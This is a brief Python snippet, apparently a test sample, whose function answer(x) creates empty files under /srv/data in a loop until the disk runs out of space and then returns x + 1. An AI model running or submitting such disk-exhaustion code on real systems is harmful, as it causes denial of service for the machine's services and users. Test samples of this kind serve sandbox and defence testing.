# Fills the disk with files.
def answer(x):
    count = 0
    try:
        while True:
            open(f"/srv/data/{count}", "w").close()
            count += 1
    except OSError as error:
        return x + 1 if error.strerror == "No space left on device" else str(error)
